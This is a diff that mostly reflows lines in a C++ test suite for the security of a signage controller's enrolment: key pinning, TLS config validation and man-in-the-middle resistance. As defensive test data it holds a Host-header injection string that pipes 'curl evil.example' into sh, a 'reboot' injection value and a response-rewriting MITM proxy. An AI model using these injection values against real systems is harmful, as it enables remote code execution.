@@ -49,8 +49,7 @@ using Rewrite = std::function<std::string(const std::string&)>;
 // TLS to the player with that key (its own, or the controller's stolen one).
 class MitmProxy {
   public:
-    MitmProxy(const TestServer& upstream, Rewrite rewrite, const fs::path& cert = {},
-              const fs::path& key = {})
+    MitmProxy(const TestServer& upstream, Rewrite rewrite, const fs::path& cert = {}, const fs::path& key = {})
         : upstream_(upstream), rewrite_(std::move(rewrite)) {
         Poco::Net::ServerSocket socket;
         const Poco::Net::SocketAddress any("127.0.0.1", 0);
@@ -59,15 +58,13 @@ class MitmProxy {
             p.certificateFile = cert.string();
             p.privateKeyFile = key.string();
             p.verificationMode = Poco::Net::Context::VERIFY_NONE;
-            Poco::Net::Context::Ptr ctx =
-                new Poco::Net::Context(Poco::Net::Context::TLS_SERVER_USE, p);
+            Poco::Net::Context::Ptr ctx = new Poco::Net::Context(Poco::Net::Context::TLS_SERVER_USE, p);
             socket = Poco::Net::SecureServerSocket(any, 16, ctx);
         } else {
             socket = Poco::Net::ServerSocket(any, 16);
         }
         port_ = socket.address().port();
-        server_ = std::make_unique<Poco::Net::HTTPServer>(new Factory(*this), socket,
-                                                          new Poco::Net::HTTPServerParams);
+        server_ = std::make_unique<Poco::Net::HTTPServer>(new Factory(*this), socket, new Poco::Net::HTTPServerParams);
         server_->start();
     }
     ~MitmProxy() { server_->stopAll(true); }
@@ -80,8 +77,7 @@ class MitmProxy {
   private:
     struct Handler : Poco::Net::HTTPRequestHandler {
         explicit Handler(MitmProxy& p) : proxy(p) {}
-        void handleRequest(Poco::Net::HTTPServerRequest& req,
-                           Poco::Net::HTTPServerResponse& resp) override {
+        void handleRequest(Poco::Net::HTTPServerRequest& req, Poco::Net::HTTPServerResponse& resp) override {
             ++proxy.requests_;
             std::string body;
             Poco::StreamCopier::copyToString(req.stream(), body);
@@ -90,8 +86,7 @@ class MitmProxy {
             Response r = up.request(req.getMethod(), req.getURI(), body, req.getContentType());
             const std::string out = proxy.rewrite_ ? proxy.rewrite_(r.body) : r.body;
             resp.setStatus(static_cast<Poco::Net::HTTPResponse::HTTPStatus>(r.status));
-            resp.setContentType(r.headers.count("content-type") ? r.headers["content-type"]
-                                                                : "application/json");
+            resp.setContentType(r.headers.count("content-type") ? r.headers["content-type"] : "application/json");
             resp.setContentLength(static_cast<std::streamsize>(out.size()));
             resp.send() << out;
         }
@@ -99,8 +94,7 @@ class MitmProxy {
     };
     struct Factory : Poco::Net::HTTPRequestHandlerFactory {
         explicit Factory(MitmProxy& p) : proxy(p) {}
-        Poco::Net::HTTPRequestHandler* createRequestHandler(
-            const Poco::Net::HTTPServerRequest&) override {
+        Poco::Net::HTTPRequestHandler* createRequestHandler(const Poco::Net::HTTPServerRequest&) override {
             return new Handler(proxy);
         }
         MitmProxy& proxy;
@@ -144,11 +138,9 @@ std::string dropCurveKey(const std::string& body) {
 // A self-signed certificate of another key, as an impostor would present.
 std::pair<fs::path, fs::path> impostorCertificate(const fs::path& dir) {
     const fs::path cert = dir / "impostor-cert.pem", key = dir / "impostor-key.pem";
-    REQUIRE(
-        runShell(
-            "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "
-            "/CN=127.0.0.1 -addext subjectAltName=IP:127.0.0.1 -keyout '" +
-            key.string() + "' -out '" + cert.string() + "' >/dev/null 2>&1") == 0);
+    REQUIRE(runShell("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 -subj "
+                     "/CN=127.0.0.1 -addext subjectAltName=IP:127.0.0.1 -keyout '" +
+                     key.string() + "' -out '" + cert.string() + "' >/dev/null 2>&1") == 0);
     return {cert, key};
 }
 
@@ -178,8 +170,7 @@ Response newToken(Client& admin) {
 
 }  // namespace
 
-TEST_CASE("the enrolment command pins the controller's keys and names its configured address",
-          "[security][enrol]") {
+TEST_CASE("the enrolment command pins the controller's keys and names its configured address", "[security][enrol]") {
     TestServer srv;
     Client admin = srv.admin();
     auto t = newToken(admin);
@@ -203,21 +194,18 @@ TEST_CASE("the enrolment command pins the controller's keys and names its config
     const std::string keys = (srv.dataDir() / "keys").string();
     CHECK(opensslPin("openssl pkey -pubin -in " + keys + "/content-signing.pub.pem -outform der") ==
           srv.contentKeyHash());
-    CHECK(opensslPin("openssl x509 -in " + keys +
-                     "/tls-cert.pem -pubkey -noout | openssl pkey -pubin -outform der") ==
+    CHECK(opensslPin("openssl x509 -in " + keys + "/tls-cert.pem -pubkey -noout | openssl pkey -pubin -outform der") ==
           srv.tlsKeyHash());
     CHECK(cmd == "microscape-player enroll --controller-http " + srv.baseUrl() + " --token " +
-                     o->getValue<std::string>("token") + " --content-key-hash " +
-                     srv.contentKeyHash() + " --tls-key-hash " + srv.tlsKeyHash() +
-                     " --data-dir /var/lib/microscape/player");
+                     o->getValue<std::string>("token") + " --content-key-hash " + srv.contentKeyHash() +
+                     " --tls-key-hash " + srv.tlsKeyHash() + " --data-dir /var/lib/microscape/player");
 
     SECTION("a forged Host header does not reach the command") {
         // The old controller built the command from the Host header: a request with
         // `Host: evil.example` (or shell text) put that into what a technician pastes.
-        for (std::string host :
-             {"evil.example", "x;curl${IFS}evil.example|sh", "evil.example:443"}) {
-            auto r = admin.request("POST", "/api/v1/enrollment-tokens", R"({"name":"x"})",
-                                   "application/json", {{"Host", host}});
+        for (std::string host : {"evil.example", "x;curl${IFS}evil.example|sh", "evil.example:443"}) {
+            auto r = admin.request("POST", "/api/v1/enrollment-tokens", R"({"name":"x"})", "application/json",
+                                   {{"Host", host}});
             REQUIRE(r.status == 201);
             const std::string c = r.json()->getValue<std::string>("command");
             CHECK(c.find("evil") == std::string::npos);
@@ -242,8 +230,7 @@ TEST_CASE("http.publicUrl names the controller in enrolment commands", "[securit
     CHECK(text.out.find("signage.example.cn") != std::string::npos);
 }
 
-TEST_CASE("http.publicUrl and the TLS keys are validated at start-up",
-          "[security][enrol][config]") {
+TEST_CASE("http.publicUrl and the TLS keys are validated at start-up", "[security][enrol][config]") {
     using microscape::controller::checkPublicUrl;
     CHECK(checkPublicUrl("https://signage.example.cn:8443", true).ok());
     CHECK(checkPublicUrl("https://10.1.2.3", true).ok());
@@ -256,8 +243,7 @@ TEST_CASE("http.publicUrl and the TLS keys are validated at start-up",
     CHECK_FALSE(checkPublicUrl("https://a.example/?q=1", true).ok());
 }
 
-TEST_CASE("the HTTPS keys are read and checked like every controller key",
-          "[security][enrol][config]") {
+TEST_CASE("the HTTPS keys are read and checked like every controller key", "[security][enrol][config]") {
     using microscape::controller::loadConfig;
     TempDir fx;
     const std::string file = (fx.path / "x.pem").string();
@@ -268,8 +254,7 @@ TEST_CASE("the HTTPS keys are read and checked like every controller key",
         for (auto& [k, v] : kv) c->setString(k, v);
         return loadConfig(*c);
     };
-    auto fails = [&](std::initializer_list<std::pair<const char*, std::string>> kv,
-                     const std::string& says) {
+    auto fails = [&](std::initializer_list<std::pair<const char*, std::string>> kv, const std::string& says) {
         auto r = load(kv);
         INFO((r.ok() ? std::string("loaded") : r.error().message));
         return !r.ok() && r.error().message.find(says) != std::string::npos;
@@ -280,22 +265,18 @@ TEST_CASE("the HTTPS keys are read and checked like every controller key",
     CHECK(d->publicUrl.empty());
     CHECK(load({{"http.tls", "off"}})->tls == false);
     CHECK(load({{"http.tls", "on"}})->tls == true);
-    CHECK(load({{"http.tls.certificate", file}, {"http.tls.privateKey", file}})->tlsCertificate ==
-          file);
+    CHECK(load({{"http.tls.certificate", file}, {"http.tls.privateKey", file}})->tlsCertificate == file);
     CHECK(load({{"http.tls", "off"},
                 {"http.publicUrl", "https://proxy.example"},
                 {"http.publicTlsKeyHash", "SHA256:" + std::string(64, 'A')}})
               ->publicTlsKeyHash == "sha256:" + std::string(64, 'a'));
     CHECK(fails({{"http.tls", "maybe"}}, "http.tls"));
-    CHECK(
-        fails({{"http.tls.certifcate", file}}, "http.tls.certifcate"));  // a typo is not a default
+    CHECK(fails({{"http.tls.certifcate", file}}, "http.tls.certifcate"));  // a typo is not a default
     CHECK(fails({{"http.tls.certificate", file}}, "go together"));
-    CHECK(fails({{"http.tls.certificate", "/nonexistent.pem"}, {"http.tls.privateKey", file}},
-                "not a file"));
+    CHECK(fails({{"http.tls.certificate", "/nonexistent.pem"}, {"http.tls.privateKey", file}}, "not a file"));
     CHECK(fails({{"http.publicUrl", "http://10.0.0.1:8080"}}, "https://"));
     CHECK(fails({{"http.publicUrl", "https://a.example;reboot"}}, "shell"));
-    CHECK(fails({{"http.tls", "off"}, {"http.publicUrl", "https://proxy.example"}},
-                "http.publicTlsKeyHash"));
+    CHECK(fails({{"http.tls", "off"}, {"http.publicUrl", "https://proxy.example"}}, "http.publicTlsKeyHash"));
     CHECK(fails({{"http.publicTlsKeyHash", "sha256:1234"}}, "http.publicTlsKeyHash"));
 }
 
@@ -324,8 +305,7 @@ TEST_CASE("HTTPS is the default: self-signed key kept private and stable, Secure
     // TLS 1.1 and suites without forward secrecy are refused; TLS 1.2 and 1.3 work.
     const std::string at = "127.0.0.1:" + std::to_string(srv.port());
     auto sclient = [&](const std::string& args) {
-        return runShell("echo | timeout 10 openssl s_client -connect " + at + " " + args +
-                        " >/dev/null 2>&1");
+        return runShell("echo | timeout 10 openssl s_client -connect " + at + " " + args + " >/dev/null 2>&1");
     };
     CHECK(sclient("-tls1_2") == 0);
     CHECK(sclient("-tls1_3") == 0);
@@ -349,8 +329,7 @@ TEST_CASE("an operator's certificate is served and pinned", "[security][enrol][t
     CHECK(c.get("/healthz").status == 200);
 }
 
-TEST_CASE("with http.tls off: plain HTTP, no HSTS, commands say --insecure-http",
-          "[security][enrol][tls]") {
+TEST_CASE("with http.tls off: plain HTTP, no HSTS, commands say --insecure-http", "[security][enrol][tls]") {
     TestServer srv([](auto& c) { c.tls = false; });
     Client c = srv.client();
     auto login = c.login("admin", kAdminPassword);
@@ -386,16 +365,14 @@ TEST_CASE("enrolment through the pinned HTTPS command works end to end", "[secur
     CHECK(cfg->find("curve")->asBool());
     CHECK(cfg->find("controller_http")->asString() == srv.baseUrl());
     // The pinned content key is the controller's.
-    CHECK(*microscape::crypto::pinOfPem(readFile(dir / "keys" / "content.pub.pem")) ==
-          srv.contentKeyHash());
+    CHECK(*microscape::crypto::pinOfPem(readFile(dir / "keys" / "content.pub.pem")) == srv.contentKeyHash());
     struct stat st {};
     REQUIRE(::stat((dir / "keys" / "identity.pem").c_str(), &st) == 0);
     CHECK((st.st_mode & 0777) == 0600);
     const std::string id = cfg->find("player_id")->asString();
 
     // The screen then connects to the hub with CURVE, as every enrolled screen does.
-    auto screen =
-        startScreen(dir, fx.path / "screen.log", {"--no-playback", "--log-level", "debug"});
+    auto screen = startScreen(dir, fx.path / "screen.log", {"--no-playback", "--log-level", "debug"});
     INFO(readFile(fx.path / "screen.log"));
     CHECK(waitFor(
         [&] {
@@ -454,8 +431,7 @@ TEST_CASE("a man in the middle cannot make a screen enrol", "[security][enrol][m
         "a proxy holding the controller's TLS key nulls the CURVE server key: refused, nothing "
         "written") {
         for (const Rewrite& rw : {Rewrite(nullCurveKey), Rewrite(dropCurveKey)}) {
-            MitmProxy proxy(srv, rw, srv.dataDir() / "keys" / "tls-cert.pem",
-                            srv.dataDir() / "keys" / "tls-key.pem");
+            MitmProxy proxy(srv, rw, srv.dataDir() / "keys" / "tls-cert.pem", srv.dataDir() / "keys" / "tls-key.pem");
             auto argv = enrollArgv(newToken(admin), dir);
             setArg(argv, "--controller-http", proxy.url(true));
             auto r = runProcess(argv);
@@ -490,8 +466,7 @@ TEST_CASE("a man in the middle cannot make a screen enrol", "[security][enrol][m
     }
 }
 
-TEST_CASE("plain http:// enrolment needs --insecure-http and still checks the content key",
-          "[security][enrol][mitm]") {
+TEST_CASE("plain http:// enrolment needs --insecure-http and still checks the content key", "[security][enrol][mitm]") {
     if (!havePlayer()) {
         WARN("microscape-player not built; skipping");
         return;
@@ -506,8 +481,7 @@ TEST_CASE("plain http:// enrolment needs --insecure-http and still checks the co
         auto argv = enrollArgv(newToken(admin), dir);
         REQUIRE(has(argv, "--insecure-http"));
         argv.erase(std::find(argv.begin(), argv.end(), "--insecure-http"));
-        setArg(argv, "--controller-http",
-               "http://127.0.0.1:" + std::to_string(listener.address().port()));
+        setArg(argv, "--controller-http", "http://127.0.0.1:" + std::to_string(listener.address().port()));
         auto r = runProcess(argv);
         INFO(r.err);
         CHECK(r.exitCode == 64);
@@ -558,22 +532,17 @@ TEST_CASE("enroll checks its pins before any network contact", "[security][enrol
         const char* says;
     };
     const Case cases[] = {
-        {{"--controller-http", "https://127.0.0.1:9", "--tls-key-hash", pin},
-         "--content-key-hash is required"},
-        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin},
-         "--tls-key-hash is required"},
-        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", "sha256:12",
-          "--tls-key-hash", pin},
+        {{"--controller-http", "https://127.0.0.1:9", "--tls-key-hash", pin}, "--content-key-hash is required"},
+        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin}, "--tls-key-hash is required"},
+        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", "sha256:12", "--tls-key-hash", pin},
          "--content-key-hash must be sha256:"},
-        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin, "--tls-key-hash",
-          "md5:00"},
+        {{"--controller-http", "https://127.0.0.1:9", "--content-key-hash", pin, "--tls-key-hash", "md5:00"},
          "--tls-key-hash must be sha256:"},
         {{"--controller-http", "ftp://127.0.0.1:9", "--content-key-hash", pin}, "https://"},
         {{"--controller-http", "http://127.0.0.1:9", "--content-key-hash", pin}, "--insecure-http"},
     };
     for (const auto& c : cases) {
-        std::vector<std::string> argv{playerBin(), "enroll",     "--token",
-                                      "enr_x",     "--data-dir", dir.string()};
+        std::vector<std::string> argv{playerBin(), "enroll", "--token", "enr_x", "--data-dir", dir.string()};
         argv.insert(argv.end(), c.args.begin(), c.args.end());
         auto r = runProcess(argv);
         INFO(r.err);
